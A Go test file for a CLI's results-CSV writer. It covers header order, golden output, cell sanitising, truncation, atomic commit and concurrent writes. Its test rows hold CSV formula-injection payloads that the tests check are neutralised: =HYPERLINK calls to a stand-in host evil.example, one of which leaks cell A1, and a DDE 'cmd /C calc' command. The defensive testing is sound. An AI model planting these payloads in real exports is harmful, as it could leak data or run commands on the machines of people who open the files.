package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"github.com/bulkpatch/bulkpatch/internal/csvio"
	"github.com/bulkpatch/bulkpatch/internal/resource"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// contractColumns is the results file's column order as the CLI contract
// (docs/cli-contract.md, "Results CSV") states it, written out here rather
// than taken from the package so that a change to either shows.
var contractColumns = []string{
	"line", "mobileAppId", "userAppInstallStatusId", "mobileAppInstallStatusId", "outcome",
	"http_status", "error_code", "error_message", "attempts", "request_id", "client_request_id",
	"duration_ms", "finished_at",
}

var (
	testProps = []string{"deviceName", "errorCode", "userPrincipalName", "osVersion"}
	testCols  = Columns{Keys: resource.MobileAppInstallStatus.KeyNames(), Props: testProps}
)

func TestHeader(t *testing.T) {
	want := append(append([]string(nil), contractColumns...), testProps...)
	if diff := cmp.Diff(want, Header(testCols)); diff != "" {
		t.Errorf("Header (-want +got):\n%s", diff)
	}
	keysOnly := Columns{Keys: testCols.Keys}
	if diff := cmp.Diff(contractColumns, Header(keysOnly)); diff != "" {
		t.Errorf("Header without properties (-want +got):\n%s", diff)
	}
	withComments := Columns{Keys: testCols.Keys, Props: testProps[:1], Comments: []string{"# note"}}
	want = append(append(append([]string(nil), contractColumns...), testProps[0]), "# note")
	if diff := cmp.Diff(want, Header(withComments)); diff != "" {
		t.Errorf("Header with comments (-want +got):\n%s", diff)
	}
}

// hostileRows has a row of every outcome, with the cells that attack a
// spreadsheet or the file's layout.
func hostileRows() []Row {
	cest := time.FixedZone("CEST", 2*60*60)
	long := strings.Repeat("Zoë’s device 🚀 ", 100) // 1600 runes
	return []Row{
		{
			Line: 2, Key: resource.Key{"app-ü-1", "user-1", "st-1"},
			Outcome: Applied, HTTPStatus: 204, Attempts: 1, RequestID: "req-1", ClientRequestID: "cli-1",
			Duration: 412*time.Millisecond + 999*time.Microsecond, FinishedAt: time.Date(2026, 11, 30, 6, 52, 10, 123987654, cest),
			Props: []string{"PC-Zoë-01", "-2016345060", "zoë@contoso.com", ""},
		},
		{
			Line: 3, Key: resource.Key{"app-ü-1", "", "st-2"},
			Outcome: Unchanged, HTTPStatus: 200, Attempts: 1, RequestID: "req-2", ClientRequestID: "cli-2",
			Duration: 80 * time.Millisecond, FinishedAt: time.Date(2026, 11, 30, 4, 52, 11, 0, time.UTC),
			Props: []string{"PC-02", "", "<null>", ""},
		},
		{
			Line: 4, Key: resource.Key{"app-ü-1", "", "st-3"},
			Outcome: Failed, HTTPStatus: 404, ErrorCode: "ResourceNotFound",
			ErrorMessage: "The object\r\nwas not found.\nTry again\tlater.", Attempts: 1,
			RequestID: "req-3", ClientRequestID: "cli-3", Duration: 250 * time.Millisecond,
			FinishedAt: time.Date(2026, 11, 30, 4, 52, 12, 5_000_000, time.UTC),
			Props:      []string{"PC-03"},
		},
		{
			Line: 5, Key: resource.Key{"@app", "", "=1+2"},
			Outcome: Failed, HTTPStatus: 400, ErrorCode: `=HYPERLINK("http://evil.example","x")`,
			ErrorMessage: long, Attempts: 1, RequestID: "-req", ClientRequestID: "cli-4",
			Duration: time.Second, FinishedAt: time.Date(2026, 11, 30, 4, 52, 13, 0, time.UTC),
			Props: []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "@x", "-1+cmd|' /C calc'!A0"},
		},
		{
			Line: 6, Key: resource.Key{"app-ü-1", "", "st-5"},
			Outcome: Invalid, ErrorCode: "invalid_value",
			ErrorMessage: `errorCode: "0xZZ" is not a decimal int32 or 0x hex`,
			Props:        []string{"", "0xZZ", "", ""},
		},
		{
			Line: 7, Key: resource.Key{"app-ü-1", "", "st-6"},
			Outcome: Skipped, HTTPStatus: 204, Attempts: 2, RequestID: "req-earlier", ClientRequestID: "cli-earlier",
			Duration: 1500 * time.Millisecond, FinishedAt: time.Date(2026, 11, 29, 23, 0, 0, 0, time.UTC),
			Props: []string{"PC-06", "0", "", "10.0.26100"},
		},
		{
			Line: 8, Key: resource.Key{"app-ü-1", "", "st-7"},
			Outcome: NotAttempted, Props: []string{"PC-07", "", "", ""},
		},
		{
			Line: 9, Key: resource.Key{"app-ü-1", "user-9", "st-8"},
			Outcome: Failed, ErrorCode: "timeout", ErrorMessage: "no answer after 11 attempts: context deadline exceeded",
			Attempts: 11, Duration: 10 * time.Minute, FinishedAt: time.Date(2026, 11, 30, 5, 2, 13, 999_000_000, time.UTC),
			Props: []string{"PC-08", "\xff\xfe bad bytes"},
		},
	}
}

func writeFile(t *testing.T, path string, rows []Row) {
	t.Helper()
	w, err := Create(path, testCols, csvio.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Commit(); err != nil {
		t.Fatal(err)
	}
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	cr := csv.NewReader(bytes.NewReader(b))
	cr.FieldsPerRecord = len(contractColumns) + len(testProps)
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("results file is not valid CSV: %v", err)
	}
	return recs
}

// TestResultsGolden pins the whole file in testdata/results.golden and,
// independently of it, checks what the contract requires of each cell.
func TestResultsGolden(t *testing.T) {
	path := filepath.Join(t.TempDir(), "in.results.csv")
	writeFile(t, path, hostileRows())
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "results.golden", b)

	if !utf8.Valid(b) {
		t.Error("results file is not valid UTF-8")
	}
	if bytes.HasPrefix(b, []byte("\ufeff")) || bytes.Contains(b, []byte("\r")) {
		t.Error("results file has a BOM or CR: want plain UTF-8 with LF")
	}
	recs := readCSV(t, b)
	if diff := cmp.Diff(append(contractColumns, testProps...), recs[0]); diff != "" {
		t.Errorf("header (-want +got):\n%s", diff)
	}
	if len(recs) != 1+len(hostileRows()) {
		t.Fatalf("%d records, want a header and %d rows", len(recs), len(hostileRows()))
	}
	col := func(line int, name string) string {
		i := colIndex(name)
		if i < 0 {
			t.Fatalf("no column %q", name)
		}
		return recs[line-1][i] // data row for input line L is record L-1 here
	}

	tests := []struct {
		line       int
		column     string
		want       string
		whyThisOne string
	}{
		{2, "line", "2", "line numbers are plain numbers"},
		{2, "outcome", "applied", ""},
		{2, "http_status", "204", ""},
		{2, "duration_ms", "412", "milliseconds, truncated"},
		{2, "finished_at", "2026-11-30T04:52:10.123Z", "RFC 3339 in UTC with milliseconds"},
		{2, "errorCode", "-2016345060", "a negative errorCode must stay a number"},
		{2, "deviceName", "PC-Zoë-01", "unicode kept"},
		{2, "osVersion", "", "not sent: empty"},
		{3, "userAppInstallStatusId", "", "direct route"},
		{3, "userPrincipalName", "<null>", "a cleared property"},
		{4, "error_message", "The object was not found. Try again later.", "one line: CRLF, LF and tab become single spaces"},
		{4, "finished_at", "2026-11-30T04:52:12.005Z", ""},
		{4, "osVersion", "", "short Props padded"},
		{5, "mobileAppId", "'@app", "neutralised"},
		{5, "mobileAppInstallStatusId", "'=1+2", "neutralised"},
		{5, "error_code", `'=HYPERLINK("http://evil.example","x")`, "a server-supplied code is neutralised too"},
		{5, "request_id", "'-req", "neutralised"},
		{5, "deviceName", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "neutralised"},
		{5, "errorCode", "+1", "csvio leaves plain numbers alone: +1 runs nothing"},
		{5, "userPrincipalName", "'@x", "neutralised"},
		{5, "osVersion", "'-1+cmd|' /C calc'!A0", "a sign that is not a number is neutralised"},
		{6, "outcome", "invalid", ""},
		{6, "http_status", "", "no answer"},
		{6, "attempts", "", "nothing sent"},
		{6, "duration_ms", "", ""},
		{6, "finished_at", "", ""},
		{7, "outcome", "skipped", ""},
		{7, "request_id", "req-earlier", "a skipped row keeps the earlier run's details"},
		{7, "errorCode", "0", "zero is a value here, unlike in the numeric columns"},
		{8, "outcome", "not_attempted", ""},
		{8, "http_status", "", "zero-and-meaningless numbers are empty"},
		{8, "attempts", "", ""},
		{8, "duration_ms", "", ""},
		{8, "finished_at", "", ""},
		{8, "error_code", "", ""},
		{9, "http_status", "", "no HTTP answer came"},
		{9, "attempts", "11", ""},
		{9, "duration_ms", "600000", ""},
		{9, "finished_at", "2026-11-30T05:02:13.999Z", ""},
		{9, "errorCode", "\uFFFD bad bytes", "a run of invalid bytes becomes one U+FFFD"},
	}
	for _, tt := range tests {
		if got := col(tt.line, tt.column); got != tt.want {
			t.Errorf("line %d %s = %q, want %q (%s)", tt.line, tt.column, got, tt.want, tt.whyThisOne)
		}
	}
	msg := col(5, "error_message")
	if n := utf8.RuneCountInString(msg); n != MaxErrorMessage || !strings.HasSuffix(msg, "…") || !strings.HasPrefix(msg, "Zoë’s device 🚀 ") {
		t.Errorf("long error_message: %d runes, ends %q; want %d runes ending in …", n, msg[len(msg)-10:], MaxErrorMessage)
	}
}

// colIndex returns the position of the named column in Header(testCols).
func colIndex(name string) int {
	for i, c := range Header(testCols) {
		if c == name {
			return i
		}
	}
	return -1
}

func TestOneLine(t *testing.T) {
	tests := []struct {
		in, want string
		max      int
	}{
		{"", "", 10},
		{"plain", "plain", 10},
		{"a\r\nb\nc\rd\te", "a b c d e", 10},
		{"\x1b[31mred", " [31mred", 10},
		{"ten runes!", "ten runes!", 10},
		{"eleven rune", "eleven ru…", 10},
		{"ünïcödé✓✓✓", "ünïcödé✓✓✓", 10},
		{"ünïcödé✓✓✓✓", "ünïcödé✓✓…", 10},
		{"bad\xffbyte", "bad\uFFFDbyte", 10},
		{"nine run\r\n", "nine run ", 10},
	}
	for _, tt := range tests {
		got := OneLine(tt.in, tt.max)
		if got != tt.want {
			t.Errorf("OneLine(%q, %d) = %q, want %q", tt.in, tt.max, got, tt.want)
		}
		if n := utf8.RuneCountInString(got); n > tt.max {
			t.Errorf("OneLine(%q, %d) has %d runes", tt.in, tt.max, n)
		}
	}
}

func listDir(t *testing.T, dir string) []string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

func mode(t *testing.T, path string) os.FileMode {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode().Perm()
}

// TestCommitReplacesAtomically: until Commit the old file stays exactly
// as it was (content and mode); after it, the new file has mode 0600.
func TestCommitReplacesAtomically(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "r.csv")
	old := []byte("old results\n")
	if err := os.WriteFile(path, old, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, 0o644); err != nil { // whatever the umask
		t.Fatal(err)
	}
	w, err := Create(path, testCols, csvio.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	for _, r := range hostileRows() {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if got, _ := os.ReadFile(path); !bytes.Equal(got, old) {
		t.Errorf("target changed before Commit: %q", got)
	}
	if runtime.GOOS != "windows" && mode(t, path) != 0o644 {
		t.Errorf("target mode changed before Commit: %v", mode(t, path))
	}
	names := listDir(t, dir)
	if len(names) != 2 {
		t.Fatalf("directory holds %q, want the target and one temporary file", names)
	}
	for _, n := range names {
		if n != "r.csv" && runtime.GOOS != "windows" {
			if m := mode(t, filepath.Join(dir, n)); m != 0o600 {
				t.Errorf("temporary file %s has mode %v, want 0600 from the start", n, m)
			}
		}
	}
	if err := w.Commit(); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if recs := readCSV(t, got); len(recs) != 1+len(hostileRows()) {
		t.Errorf("committed file has %d records, want %d", len(recs), 1+len(hostileRows()))
	}
	if runtime.GOOS != "windows" {
		if m := mode(t, path); m != 0o600 {
			t.Errorf("mode after Commit = %v, want 0600", m)
		}
	}
	if diff := cmp.Diff([]string{"r.csv"}, listDir(t, dir)); diff != "" {
		t.Errorf("directory after Commit (-want +got):\n%s", diff)
	}

	if err := w.Write(hostileRows()[0]); !errors.Is(err, ErrFinished) {
		t.Errorf("Write after Commit = %v, want ErrFinished", err)
	}
	if err := w.Commit(); !errors.Is(err, ErrFinished) {
		t.Errorf("second Commit = %v, want ErrFinished", err)
	}
	if err := w.Abort(); err != nil {
		t.Errorf("Abort after Commit = %v, want nil", err)
	}
	if after, _ := os.ReadFile(path); !bytes.Equal(after, got) {
		t.Error("Abort after Commit changed the file")
	}
}

func TestCommitNewFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "new.csv")
	writeFile(t, path, nil)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if want := strings.Join(append(contractColumns, testProps...), ",") + "\n"; string(b) != want {
		t.Errorf("empty results file = %q, want just the header %q", b, want)
	}
	if runtime.GOOS != "windows" {
		if m := mode(t, path); m != 0o600 {
			t.Errorf("mode = %v, want 0600", m)
		}
	}
}

func TestAbort(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "r.csv")
	if err := os.WriteFile(path, []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	w, err := Create(path, testCols, csvio.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(hostileRows()[0]); err != nil {
		t.Fatal(err)
	}
	if err := w.Abort(); err != nil {
		t.Fatal(err)
	}
	if got, _ := os.ReadFile(path); string(got) != "old\n" {
		t.Errorf("target after Abort = %q, want it untouched", got)
	}
	if diff := cmp.Diff([]string{"r.csv"}, listDir(t, dir)); diff != "" {
		t.Errorf("directory after Abort (-want +got):\n%s", diff)
	}
	if err := w.Commit(); !errors.Is(err, ErrFinished) {
		t.Errorf("Commit after Abort = %v, want ErrFinished", err)
	}
}

func TestCreateErrors(t *testing.T) {
	if _, err := Create(filepath.Join(t.TempDir(), "missing", "r.csv"), Columns{}, csvio.WriterOptions{}); err == nil {
		t.Error("Create in a missing directory = nil error")
	}
	w, err := Create(filepath.Join(t.TempDir(), "r.csv"), Columns{Keys: testCols.Keys, Props: testProps[:1]}, csvio.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	if err := w.Write(Row{Line: 2, Outcome: Applied, Props: []string{"a", "b"}}); err == nil {
		t.Error("Write with more cells than property columns = nil error")
	}
}

func TestConcurrentWrite(t *testing.T) {
	path := filepath.Join(t.TempDir(), "r.csv")
	w, err := Create(path, testCols, csvio.WriterOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Abort()
	var wg sync.WaitGroup
	for i := range 16 {
		wg.Go(func() {
			r := hostileRows()[i%len(hostileRows())]
			r.Line = 100 + i
			if err := w.Write(r); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	if err := w.Commit(); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range readCSV(t, b)[1:] {
		seen[rec[0]] = true
	}
	for i := range 16 {
		if !seen[fmt.Sprint(100+i)] {
			t.Errorf("line %d missing", 100+i)
		}
	}
}

func BenchmarkWriterWrite(b *testing.B) {
	w, err := Create(filepath.Join(b.TempDir(), "r.csv"), testCols, csvio.WriterOptions{})
	if err != nil {
		b.Fatal(err)
	}
	defer w.Abort()
	r := hostileRows()[0]
	b.ReportAllocs()
	for b.Loop() {
		if err := w.Write(r); err != nil {
			b.Fatal(err)
		}
	}
}
